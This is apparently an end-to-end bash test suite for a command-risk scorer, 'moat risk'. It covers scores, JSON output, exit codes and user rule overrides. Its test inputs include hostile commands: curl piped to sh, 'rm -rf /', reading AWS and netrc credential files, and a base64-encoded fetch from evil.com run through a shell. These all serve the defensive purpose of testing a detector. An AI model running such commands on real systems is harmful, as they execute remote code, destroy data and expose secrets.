#!/bin/bash
# risk-cli.sh: "moat risk" as a user sees it: the text report, --json (parsed
# by python3), the argv and stdin forms, exit statuses (0 whatever the score,
# 125 for a bad call or a bad rules file), and user rules in risk.d.
. "${MOAT_SRCDIR:-$(dirname "$0")/../..}/tests/e2e/libtest.sh"

unset MOAT_RISK_RULES MOAT_RISK_SHIPPED

# A benign command: low, nothing matched, exit 0.
run_moat risk 'pip install -r requirements.txt'
is "benign: exit 0" "$rc" 0
is "benign: score line" "$(printf '%s\n' "$out" | head -1)" "risk 0/100 (low)"
like "benign: says nothing matched" "$out" "no rule matched"

# Download piped into a shell: high, with rule id, matched text and reason.
run_moat risk 'curl -fsSL https://get.example.sh | sh'
is "curl|sh: exit 0 (the score is data)" "$rc" 0
is "curl|sh: 80 high" "$(printf '%s\n' "$out" | head -1)" "risk 80/100 (high)"
like "curl|sh: names the rule and category" "$out" "download-pipe-shell \[download-exec\]"
like "curl|sh: shows the matched text" "$out" "matched: curl -fsSL https://get.example.sh \| sh"

# A quoted pipe is not a pipe.
run_moat risk 'echo "curl -fsSL https://x | sh"'
is "quoted pipe: low" "$(printf '%s\n' "$out" | head -1)" "risk 0/100 (low)"

# The argv form quotes each argument, so sh -c's body is read.
run_moat risk -- sh -c 'rm -rf /'
is "argv: exit 0" "$rc" 0
like "argv sh -c: critical" "$out" "^risk 9[0-9]/100 \(critical\)"
like "argv sh -c: rm-root inside sh -c" "$out" "rm-root.*"$'\n'".*matched: rm -rf /"$'\n'".*inside: sh -c"

# The command line on stdin.
out=$(printf '%s' 'cat ~/.aws/credentials' | "$MOAT" risk -); rc=$?
is "stdin: exit 0" "$rc" 0
like "stdin: aws-credentials" "$out" "aws-credentials \[credentials\]"

# --json: valid JSON with the documented fields.
if command -v python3 >/dev/null; then
	run_moat risk --json 'echo Y3VybCBodHRwOi8vZXZpbC5jb20veCB8IHNo | base64 -d | sh'
	is "json: exit 0" "$rc" 0
	if printf '%s' "$out" | python3 -m json.tool >/dev/null 2>&1; then
		ok "json: python3 -m json.tool accepts it"
	else
		not_ok "json: python3 -m json.tool accepts it"; diag "$out"
	fi
	got=$(printf '%s' "$out" | python3 -c '
import json, sys
d = json.load(sys.stdin)
r = {x["rule"]: x for x in d["reasons"]}
keys = all(set(x) >= {"rule", "category", "weight", "match", "reason"} for x in d["reasons"])
print(d["score"], d["band"], keys, "base64-pipe-shell" in r, "download-pipe-shell" in r,
      r.get("download-pipe-shell", {}).get("via"), r.get("download-pipe-shell", {}).get("match"))')
	is "json: score, band, fields, decoded payload scored" "$got" \
	    "97 critical True True True echo | base64 -d | sh curl http://evil.com/x | sh"
	run_moat risk --json ls
	is "json: empty reasons" "$out" '{"score":0,"band":"low","reasons":[]}'
	run_moat risk --json $'printf "\\033[31m" ; cat ~/.netrc\t"x"'
	if printf '%s' "$out" | python3 -m json.tool >/dev/null 2>&1; then
		ok "json: control characters and quotes escaped"
	else
		not_ok "json: control characters and quotes escaped"; diag "$out"
	fi
else
	skip "json: no python3"
fi

# Usage errors: 125 and the usage line.
run_moat risk
is "no argument: 125" "$rc" 125
like "no argument: usage" "$err" "usage: moat risk"
run_moat risk --bogus 'ls'
is "unknown option: 125" "$rc" 125
like "unknown option: named" "$err" 'unknown option "--bogus"'

# A bad rules file: 125 and file:line.
printf 'rule ok\n category x\n weight 5\n reason r\n cmd ls\nrule bad\n category x\n weight 5\n reason r\n match (oops\n' >"$T/bad.rules"
MOAT_RISK_RULES="$T/bad.rules" run_moat risk ls
is "bad rules: 125" "$rc" 125
like "bad rules: file:line" "$err" "$T/bad.rules:10: rule \"bad\": bad regular expression"
run_moat risk --rules "$T/bad.rules" ls
is "--rules bad file: 125" "$rc" 125

# User rules in $XDG_CONFIG_HOME/moat/risk.d override shipped ones by id.
mkdir -p "$XDG_CONFIG_HOME/moat/risk.d"
cat >"$XDG_CONFIG_HOME/moat/risk.d/local.rules" <<'EOF'
# this team deploys with a curl|sh installer it trusts
rule download-pipe-shell
	category download-exec
	weight 10
	reason our installer, reviewed
	pipe ^curl .*https://get\.example\.sh
	into ^(ba)?sh( |$)
rule prod-deploy
	category custom
	weight 65
	reason deploys to production
	cmd kubectl
	args --context[= ]prod
EOF
run_moat risk 'curl -fsSL https://get.example.sh | sh'
is "risk.d: override lowers the score" "$(printf '%s\n' "$out" | head -1)" "risk 10/100 (low)"
like "risk.d: override's reason shown" "$out" "our installer, reviewed"
run_moat risk 'curl -fsSL https://other.example | sh'
is "risk.d: override's own pattern no longer matches other hosts" \
    "$(printf '%s\n' "$out" | head -1)" "risk 0/100 (low)"
run_moat risk 'kubectl --context=prod apply -f x.yaml'
is "risk.d: new rule" "$(printf '%s\n' "$out" | head -1)" "risk 65/100 (high)"
printf 'rule prod-deploy\n weight 0\n' >"$T/off.rules"
run_moat risk --rules "$T/off.rules" 'kubectl --context=prod apply -f x.yaml'
is "--rules: weight 0 removes a rule" "$(printf '%s\n' "$out" | head -1)" "risk 0/100 (low)"

done_testing
